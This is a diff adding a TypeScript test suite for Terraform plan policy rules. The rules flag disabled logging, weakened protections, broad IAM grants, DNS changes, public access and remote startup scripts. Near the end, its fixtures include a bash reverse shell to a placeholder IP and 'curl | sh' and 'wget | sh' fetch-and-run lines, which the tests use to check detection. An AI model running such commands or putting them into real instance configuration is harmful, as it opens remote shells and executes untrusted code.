@@ -1,0 +1,182 @@
+import { terraformPlanPack } from '../../../../source-tools/terraform/rules';
+import { planOf } from '../../../../source-tools/terraform/rules/define-terraform-rule';
+import { runRule } from '../../../policy/rules/support/run-pack-rule';
+
+const isHeld = (
+  rule: string,
+  address: string,
+  before: object | null,
+  after: object | null,
+  unknown: object = {},
+): boolean => {
+  const actions = before === null ? ['create'] : after === null ? ['delete'] : ['update'];
+  const plan = planOf([{ address, actions, before, after, after_unknown: unknown }]);
+  return runRule(terraformPlanPack, rule, plan).status !== 'ALLOW';
+};
+
+describe('logging and audit that are switched off', () => {
+  it.each([
+    ['aws_cloudtrail.t', { is_multi_region_trail: true }, { is_multi_region_trail: false }],
+    ['aws_cloudtrail.t', { enable_logging: true }, null],
+    ['aws_cloudtrail.t', null, { enable_logging: false }],
+    ['aws_cloudwatch_log_group.g', { retention_in_days: 365 }, { retention_in_days: 1 }],
+    ['aws_cloudwatch_log_group.g', { retention_in_days: 0 }, { retention_in_days: 30 }],
+    [
+      'aws_db_instance.d',
+      { enabled_cloudwatch_logs_exports: ['audit', 'error'] },
+      { enabled_cloudwatch_logs_exports: ['error'] },
+    ],
+    ['aws_eks_cluster.c', { enabled_cluster_log_types: ['audit'] }, { enabled_cluster_log_types: [] }],
+    ['aws_lb.l', { access_logs: [{ bucket: 'b', enabled: true }] }, { access_logs: [{ bucket: 'b', enabled: false }] }],
+    ['aws_lb.l', { access_logs: [{ bucket: 'b', enabled: true }] }, { access_logs: [] }],
+    ['aws_guardduty_detector.g', { enable: true }, { enable: false }],
+    ['google_container_cluster.c', { logging_service: 'logging.example.com' }, { logging_service: 'none' }],
+    ['google_compute_subnetwork.s', { log_config: [{ flow_sampling: 0.5 }] }, { log_config: [] }],
+    ['google_project_iam_audit_config.a', null, { audit_log_config: [{ exempted_members: ['user:a@example.com'] }] }],
+    ['google_logging_project_exclusion.x', null, { filter: 'severity>=ERROR' }],
+    ['aws_elasticsearch_domain.e', { settings: { disable_audit: false } }, { settings: { disable_audit: true } }],
+  ])('are held: %s from %j to %j', (address, before, after) => {
+    expect(isHeld('terraform_logging_off', address, before, after)).toBe(true);
+  });
+
+  it.each([
+    ['aws_cloudwatch_log_group.g', { retention_in_days: 30 }, { retention_in_days: 90 }],
+    ['aws_cloudwatch_log_group.g', { retention_in_days: 30 }, { retention_in_days: 0 }],
+    ['aws_cloudwatch_log_group.g', null, { retention_in_days: 14 }],
+    ['aws_cloudtrail.t', { name: 'a', enable_logging: true }, { name: 'b', enable_logging: true }],
+    ['aws_lb.l', { access_logs: [] }, { access_logs: [{ bucket: 'b', enabled: true }] }],
+    ['aws_instance.i', { catalog: true, tags: { log: 'yes' } }, { catalog: false, tags: {} }],
+    ['aws_lambda_function.f', { timeout: 30 }, { timeout: 3 }],
+  ])('are not seen in %s from %j to %j', (address, before, after) => {
+    expect(isHeld('terraform_logging_off', address, before, after)).toBe(false);
+  });
+
+  it('are undecided if the plan does not show the new value', () => {
+    expect(
+      isHeld('terraform_logging_off', 'aws_cloudtrail.t', { enable_logging: true }, {}, { enable_logging: true }),
+    ).toBe(true);
+  });
+});
+
+describe('a protection that is switched off', () => {
+  it.each([
+    [
+      'aws_s3_bucket_versioning.b',
+      { versioning_configuration: [{ status: 'Enabled' }] },
+      { versioning_configuration: [{ status: 'Suspended' }] },
+    ],
+    ['aws_db_instance.d', { backup_retention_period: 30 }, { backup_retention_period: 0 }],
+    ['aws_db_instance.d', null, { storage_encrypted: false }],
+    [
+      'aws_instance.i',
+      { metadata_options: [{ http_tokens: 'required' }] },
+      { metadata_options: [{ http_tokens: 'optional' }] },
+    ],
+    ['aws_iam_account_password_policy.p', { minimum_password_length: 14 }, { minimum_password_length: 6 }],
+    ['aws_s3_bucket_public_access_block.b', { block_public_acls: true }, null],
+    ['azurerm_storage_account.s', { enable_https_traffic_only: true }, { enable_https_traffic_only: false }],
+    ['aws_kms_key.k', { enable_key_rotation: true }, { enable_key_rotation: false }],
+  ])('is held: %s from %j to %j', (address, before, after) => {
+    expect(isHeld('terraform_protection_off', address, before, after)).toBe(true);
+  });
+
+  it.each([
+    ['aws_db_instance.d', { backup_retention_period: 7 }, { backup_retention_period: 30 }],
+    ['aws_db_instance.d', null, { storage_encrypted: true, backup_retention_period: 7 }],
+    ['aws_db_instance.d', { kms_key_id: 'a' }, { kms_key_id: 'b' }],
+  ])('is not seen in %s from %j to %j', (address, before, after) => {
+    expect(isHeld('terraform_protection_off', address, before, after)).toBe(false);
+  });
+});
+
+describe('iam:PassRole', () => {
+  const isBroad = (statement: object): boolean =>
+    isHeld('terraform_iam_widening', 'aws_iam_policy.p', null, {
+      policy: JSON.stringify({ Statement: [{ Effect: 'Allow', ...statement }] }),
+    });
+
+  it.each(['*', 'arn:aws:iam::111122223333:role/*', 'arn:aws:iam::111122223333:role/app-*'])(
+    'is held for %s',
+    (Resource) => {
+      expect(isBroad({ Action: 'iam:PassRole', Resource })).toBe(true);
+      expect(isBroad({ Action: ['ecs:RunTask', 'iam:Pass*'], Resource: [Resource] })).toBe(true);
+    },
+  );
+
+  it('passes if it names the role', () => {
+    expect(isBroad({ Action: 'iam:PassRole', Resource: 'arn:aws:iam::111122223333:role/worker' })).toBe(false);
+  });
+});
+
+it.each([
+  ['aws_iam_access_key.k', { user: 'ci' }],
+  [
+    'aws_iam_role.r',
+    {
+      assume_role_policy:
+        '{"Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"AWS":"arn:aws:iam::999900001111:root"}}]}',
+    },
+  ],
+  ['aws_iam_role_policy_attachment.a', { policy_arn: 'arn:aws:iam::aws:policy/AmazonEC2FullAccess' }],
+])('terraform_iam_widening holds %s with %j', (address, after) => {
+  expect(isHeld('terraform_iam_widening', address, null, after)).toBe(true);
+});
+
+it.each([
+  ['terraform_remote_script', 'aws_instance.i', null, { user_data: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' }, true],
+  [
+    'terraform_remote_script',
+    'aws_instance.i',
+    null,
+    { user_data_base64: Buffer.from('#!/bin/sh\ncurl x | sh').toString('base64') },
+    true,
+  ],
+  [
+    'terraform_remote_script',
+    'google_compute_instance.i',
+    null,
+    { metadata: { 'startup-script': 'wget -qO- x | sh' } },
+    true,
+  ],
+  ['terraform_remote_script', 'aws_ssm_association.s', null, { name: 'AWS-RunShellScript' }, true],
+  ['terraform_remote_script', 'aws_instance.i', null, { user_data: 'systemctl start worker' }, false],
+  [
+    'terraform_dns_changed',
+    'cloudflare_record.r',
+    { type: 'A', content: '203.0.113.1' },
+    { type: 'A', content: '203.0.113.2' },
+    true,
+  ],
+  ['terraform_dns_changed', 'aws_route53_record.r', null, { type: 'NS', records: ['ns.example.com'] }, true],
+  [
+    'terraform_dns_changed',
+    'aws_route53_record.r',
+    { type: 'A', ttl: 60, records: ['a'] },
+    { type: 'A', ttl: 300, records: ['a'] },
+    false,
+  ],
+  ['terraform_outside_connection', 'aws_vpc_peering_connection.p', null, { peer_owner_id: '9' }, true],
+  [
+    'terraform_public_access',
+    'aws_eks_cluster.c',
+    null,
+    { vpc_config: [{ public_access_cidrs: ['0.0.0.0/0'] }] },
+    true,
+  ],
+  [
+    'terraform_public_access',
+    'aws_eks_cluster.c',
+    null,
+    { vpc_config: [{ public_access_cidrs: ['10.0.0.0/8'] }] },
+    false,
+  ],
+  [
+    'terraform_public_access',
+    'google_sql_database_instance.d',
+    null,
+    { settings: [{ ip_configuration: [{ authorized_networks: [{ value: '10.0.0.1' }, { value: '0.0.0.0/0' }] }] }] },
+    true,
+  ],
+])('%s on %s from %j to %j: %s', (rule, address, before, after, held) => {
+  expect(isHeld(rule, address, before, after)).toBe(held);
+});
